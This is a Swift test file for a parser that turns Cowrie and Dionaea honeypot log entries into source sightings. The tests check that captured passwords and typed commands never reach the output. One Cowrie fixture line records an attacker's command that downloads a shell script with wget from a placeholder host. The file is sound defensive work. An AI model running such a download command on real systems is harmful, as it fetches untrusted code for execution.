import Addressing
import Foundation
import MamoriTesting
import Testing
import TextScanning

@testable import Sightings

@Suite(.enabled(if: Corpus.isPresent, "needs the shared corpus")) struct HoneypotTests {
    // MARK: Cowrie

    /// Every string value of a content-bearing member in a Cowrie log (passwords, user names,
    /// typed commands, URLs, hashes, messages that echo them), read here with Foundation only
    /// to check that none of it reaches a sighting.
    static func contentStrings(_ url: URL) throws -> Set<String> {
        let contentKeys: Set<String> = [
            "password", "username", "input", "message", "url", "outfile", "shasum", "filename", "ttylog", "hassh",
            "hasshAlgorithms", "kexAlgs", "keyAlgs", "encCS", "macCS", "compCS", "version", "arch", "name", "value", "data",
            "dst_ip", "fingerprint", "key",
        ]
        var out: Set<String> = []
        let text = try String(contentsOf: url, encoding: .utf8)
        for line in text.split(separator: "\n") {
            guard let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any] else { continue }
            for (key, value) in object where contentKeys.contains(key) {
                if let s = value as? String {
                    out.insert(s)
                } else if let list = value as? [Any] {
                    for item in list { if let s = item as? String { out.insert(s) } }
                }
            }
        }
        return out
    }

    @Test(arguments: ["cowrie/cowrie.json.2018-05-06", "abuse/cowrie-2019-telnet-ssh-head.json"])
    func cowrieSightingsHoldNoContent(_ path: String) throws {
        let url = Paths.corpus(path)
        let secrets = try Self.contentStrings(url)
        #expect(secrets.count > 10)
        #expect(secrets.contains { $0.contains("/bin/busybox") } || secrets.contains("SSH-2.0-OpenSSH_7.7"))
        let result = try SightingReader().parse(contentsOf: url)
        #expect(!result.sightings.isEmpty)
        let encoded = String(decoding: try JSONEncoder().encode(result.sightings), as: UTF8.self)
        for s in result.sightings {
            let fields = [s.source.description, s.sourcePort.map(String.init), s.feed, s.evidence, s.family, s.kind.rawValue]
                .compactMap { $0 }
            for secret in secrets where !secret.isEmpty {
                // Short strings such as "sh" occur by chance inside names ("ssh"); they must at
                // least never be a whole field. Longer ones must not occur anywhere.
                #expect(!fields.contains(secret), "a sighting field is a content string")
                if secret.count >= 4 {
                    #expect(!fields.contains { $0.contains(secret) }, "a sighting field contains a content string")
                }
            }
        }
        for secret in secrets where secret.count >= 4 { #expect(!encoded.contains(secret)) }
        // Issues never echo a line either (none here, but a broken line is checked below).
        #expect(result.summary.issues.isEmpty)
    }

    @Test func cowrieSessionsAreOneSightingEach() throws {
        let result = try SightingReader().parse(contentsOf: Paths.corpus("abuse/cowrie-2019-telnet-ssh-head.json"))
        let first = try #require(result.sightings.first)
        #expect(first.source == IPAddress("62.33.118.20"))
        #expect(first.sourcePort == 28768)
        #expect(first.time.timeIntervalSince1970 == instant("2019-07-08T09:57:26Z").timeIntervalSince1970 + 0.072356)
        #expect(first.kind == .honeypotContact && first.family == nil && first.feed == "cowrie")
        #expect(first.evidence == "cowrie-2019-telnet-ssh-head.json:1#08a27a5431bc")
        #expect(Set(result.sightings.map(\.evidence)).count == 9)
        // 183.131.82.99 and 5.126.151.108 opened two sessions each.
        #expect(result.sightings.filter { $0.source == IPAddress("183.131.82.99") }.count == 2)
    }

    @Test func cowrieBadLinesAreIssuesWithoutContent() throws {
        let log = """
            {"eventid":"cowrie.session.connect","src_ip":"192.0.2.1","src_port":2222,"timestamp":"2026-11-27T00:00:00.000000Z","session":"aa11"}
            {"eventid":"cowrie.login.failed","username":"root","password":"s3cr3t-pw","session":"aa11","src_ip":"192.0.2.1"}
            {"eventid":"cowrie.command.input","input":"wget http://198.51.100.9/x.sh
            {"eventid":"cowrie.session.connect","src_ip":"999.0.2.1","src_port":2222,"timestamp":"2026-11-27T00:00:01Z","session":"bb22"}
            {"eventid":"cowrie.session.connect","src_ip":"192.0.2.3","src_port":2222,"timestamp":"2026-11-27T00:00:02","session":"cc33"}
            {"eventid":"cowrie.session.connect","src_ip":"192.0.2.4","src_port":99999,"timestamp":"2026-11-27T00:00:03Z","session":"dd44"}
            {"src_ip":"192.0.2.5","session":"ee55"}
            {"eventid":"cowrie.session.connect","src_ip":"192.0.2.1","src_port":2223,"timestamp":"2026-11-27T00:00:04Z","session":"aa11"}

            {"eventid":"cowrie.session.connect","src_ip":"::ffff:192.0.2.6","src_port":2222,"timestamp":"2026-11-27T09:00:05+09:00","session":"ff66"}
            """
        let result = try SightingReader().parse(bytes: Array(log.utf8), fileName: "cowrie.json")
        #expect(Counts(result.summary) == Counts(records: 9, sightings: 2, ignored: 2, rejected: 5))
        #expect(
            result.summary.issues.map(\.description) == [
                "cowrie.json:3: not a JSON object",
                "cowrie.json:4: src_ip: not an IP address",
                "cowrie.json:5: timestamp: time has no zone (expected Z or ±HH:MM)",
                "cowrie.json:6: src_port: not a port number",
                "cowrie.json:7: eventid: missing or not a string",
            ])
        #expect(result.sightings.map(\.source) == [IPAddress("192.0.2.1"), IPAddress("192.0.2.6")].compactMap { $0 })
        #expect(result.sightings[1].time == instant("2026-11-27T00:00:05Z"))
        #expect(result.sightings[1].evidence == "cowrie.json:10#ff66")
    }

    // MARK: Dionaea

    @Test func dionaeaLogJSONTimesAreUTC() throws {
        let result = try SightingReader().parse(contentsOf: Paths.corpus("dionaea/dionaea.json"))
        let first = try #require(result.sightings.first)
        #expect(first.source == IPAddress("192.168.144.1") && first.sourcePort == 42830)
        #expect(abs(first.time.timeIntervalSince1970 - (instant("2024-05-17T07:05:23Z").timeIntervalSince1970 + 0.517478)) < 1e-6)
        #expect(first.evidence == "dionaea.json:1" && first.family == nil && first.kind == .honeypotContact)
    }

    @Test func dionaeaMHNExportKeepsTheEventID() throws {
        let result = try SightingReader().parse(contentsOf: Paths.corpus("abuse/dionaea-mhn-session-2017-head.json"))
        let first = try #require(result.sightings.first)
        #expect(first.source == IPAddress("103.239.244.80") && first.sourcePort == 61854)
        #expect(first.time == Date(timeIntervalSince1970: instant("2017-11-11T06:19:12Z").timeIntervalSince1970 + 0.385))
        #expect(first.evidence == "dionaea-mhn-session-2017-head.json:1#5a069662616a1e7668dd40f5")
        #expect(result.sightings.filter { $0.source == IPAddress("72.226.28.47") }.count == 40)  // the scan burst
    }

    @Test func dionaeaOutboundAndOtherHoneypotsAreIgnored() throws {
        let log = """
            {"connection": {"protocol": "httpd", "transport": "tcp", "type": "accept"}, "dst_ip": "192.0.2.254", "dst_port": 80, "src_hostname": "", "src_ip": "192.0.2.1", "src_port": 40000, "timestamp": "2026-11-27T00:00:00.5"}
            {"connection": {"protocol": "httpd", "transport": "tcp", "type": "connect"}, "dst_ip": "192.0.2.254", "dst_port": 80, "src_ip": "198.51.100.66", "src_port": 80, "timestamp": "2026-11-27T00:00:01"}
            {"connection": {"protocol": "smbd", "transport": "tcp", "type": "reject"}, "src_ip": "::ffff:192.0.2.2", "src_port": 445, "timestamp": "2026-11-27T00:00:02", "credentials": [{"username": "sa", "password": "pw-never-read"}]}
            {"connection": {"protocol": "ftpd", "transport": "tcp", "type": "listen"}, "src_ip": "0.0.0.0", "src_port": 0, "timestamp": "2026-11-27T00:00:03"}
            { "_id" : { "$oid" : "5a069662616a1e7668dd40f5" }, "protocol" : "ssh", "timestamp" : { "$date" : "2017-11-11T06:19:12.385+0000" }, "source_ip" : "203.0.113.1", "source_port" : 1, "honeypot" : "cowrie" }
            { "_id" : { "$oid" : "5a069662616a1e7668dd40f6" }, "protocol" : "pcap", "timestamp" : { "$date" : 1510381152385 }, "source_ip" : "203.0.113.2", "source_port" : 2, "honeypot" : "dionaea" }
            { "_id" : { "$oid" : "5a069662616a1e7668dd40f7" }, "protocol" : "pcap", "timestamp" : { "$date" : "yesterday" }, "source_ip" : "203.0.113.3", "source_port" : 3, "honeypot" : "dionaea" }
            {"dst_ip": "192.0.2.254", "src_ip": "192.0.2.9", "timestamp": "2026-11-27T00:00:04"}
            """
        let result = try SightingReader().parse(bytes: Array(log.utf8), fileName: "dionaea.json", feed: .dionaea)
        #expect(Counts(result.summary) == Counts(records: 8, sightings: 3, ignored: 3, rejected: 2))
        #expect(
            result.sightings.map(\.source) == ["192.0.2.1", "192.0.2.2", "203.0.113.2"].compactMap { IPAddress($0) })
        #expect(result.sightings[2].time == Date(timeIntervalSince1970: 1_510_381_152.385))
        #expect(
            result.summary.issues.map(\.description) == [
                "dionaea.json:7: timestamp.$date: not a time (expected ISO 8601)", "dionaea.json:8: connection: missing",
            ])
    }
}
